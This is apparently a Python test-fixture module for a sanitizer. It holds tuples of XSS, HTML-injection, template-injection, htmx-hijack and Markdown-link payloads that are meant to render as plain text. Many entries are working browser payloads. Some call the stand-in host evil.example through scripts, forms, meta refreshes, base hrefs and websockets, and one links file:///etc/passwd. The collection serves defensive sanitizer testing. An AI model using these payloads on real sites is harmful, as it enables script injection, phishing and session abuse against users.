"""What somebody might write to break out of a text: every one has to end up as mere words.

`alert(…)` and `https://evil.example` stand for what it would do: a dialog, or a request.
"""

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0b>alert(1)</script\x0c>",
    "</div></article></main><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "{{ constructor.constructor('alert(1)')() }}",
    "{% include 'account/login.html' %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)

ELEMENTS = (
    '<img src=x onerror="alert(1)">',
    "<img/src=https://evil.example/pixel.gif/onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    '" onmouseover="alert(1)" style="position:fixed;inset:0" x="',
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
    "<form action=https://evil.example><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    "<p style='background:url(https://evil.example/x)' class=button id=posts>x</p>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a name=body><a id=htmx><a id=htmx name=config>x</a>",
    "<plaintext>",
    "<!--><img src=x onerror=alert(1)>-->",
)

HTMX = (
    '<hx-partial hx-target="#posts" hx-swap="delete"></hx-partial>',
    '<hx-partial hx-target="#posts"><script>alert(1)</script></hx-partial>',
    '<HX-Partial hx-target="body" hx-swap="innerHTML"><h1>gone</h1></HX-Partial>',
    '<hx-upsert hx-target="#posts" key="data-id"><article id="post-1"></article></hx-upsert>',
    "<p title=\"<hx-partial hx-target='#main' hx-swap='delete'></hx-partial>\">x</p>",
    "[x](https://a.example \"<hx-upsert hx-target='#posts'><i id=post-1>\")",
    "[x](<https://a.example/<hx-partial hx-target=body hx-swap=delete>>)",
    '`<hx-partial hx-target="#posts" hx-swap="delete"></hx-partial>`',
    "```<hx-partial>\n<hx-partial hx-target='#posts' hx-swap='delete'></hx-partial>\n```",
    "&lt;hx-partial hx-target='#posts' hx-swap='delete'&gt;&lt;/hx-partial&gt;",
    '<template hx type="partial" hx-target="#posts" hx-swap="delete"></template>',
    "</hx-partial></hx-upsert></template>",
    '<div hx-get="/accounts/logout/" hx-trigger="load">x</div>',
    '<div data-hx-get="https://evil.example" data-hx-trigger="load">x</div>',
    '<div hx-on:click="alert(1)" hx-on::load="alert(1)" hx-trigger="revealed">x</div>',
    '<div id="posts" hx-swap-oob="delete"></div>',
    '<div hx-vals=\'js:{x: alert(1)}\' hx-post="/posts/1/delete/" hx-trigger="load"></div>',
    '<div hx-ws:connect="wss://evil.example/" hx-trigger="load"></div>',
    '<div ws-connect="/ws/" sse-connect="/x" hx-boost="true" hx-ext="ws"></div>',
    '{"channel": "ui", "target": "#posts", "swap": "delete", "payload": "gone"}',
    '</div hx-ignore><div hx-get="/x" hx-trigger="load">',
)

LINKS = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script&colon;alert(1))",
    "[x](<\x01javascript:alert(1)>)",
    "[x](<  javascript:alert(1)>)",
    "[x](javascript&#58;alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example) [y](/accounts/logout/) [z](\\\\evil.example)",
    "[x](ws://evil.example) [y](file:///etc/passwd) [z](blob:https://a.example/x)",
    "<javascript:alert(1)> <data:text/html,x> <vbscript:x>",
    "[x][1]\n\n[1]: javascript:alert(1) 'title'",
    "[1]\n\n[1]: data:text/html,<script>alert(1)</script>",
    "![x](https://evil.example/pixel.gif)",
    '![x](javascript:alert(1) "onerror=alert(1)")',
    '![x" onerror="alert(1)](https://a.example/x "a" onload="alert(1)")',
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    '[x](https://a.example/"onmouseover=alert(1)//)',
    "[x](https://a.example/ 'x' onclick=alert(1))",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    'https://a.example/"><img/src=x/onerror=alert(1)>',
    '<https://a.example/"onclick=alert(1)>',
    "||<img src=x onerror=alert(1)>|| ||[x](javascript:alert(1))||",
    "::: spoiler <script>alert(1)</script>\n<script>alert(1)</script>\n:::",
    "||</details></div><script>alert(1)</script>||",
)

LETTERS = (
    "\u202ealert(1)\u202d <script>\u2066alert(1)\u2069</script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<\ufeffscript>alert(1)</script>",
    "\u2028<script>alert(1)</script>\u2029",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u0130<hx-partial hx-target='#posts' hx-swap='delete'>\u017f\u212a",
)

NULS = ("<scr\x00ipt>alert(1)</script>", "[x](java\x00script:alert(1))", "<hx\x00-partial>")
"""The form refuses these; what reads Markdown has to stand them all the same."""

PAYLOADS = SCRIPTS + ELEMENTS + HTMX + LINKS + LETTERS

HANDFULS = [PAYLOADS[start::8] for start in range(8)]
"""All of them, each once: what they are compared with is then drawn eight times only."""

HANDFULS_WITH_NULS = [(PAYLOADS + NULS)[start::8] for start in range(8)]
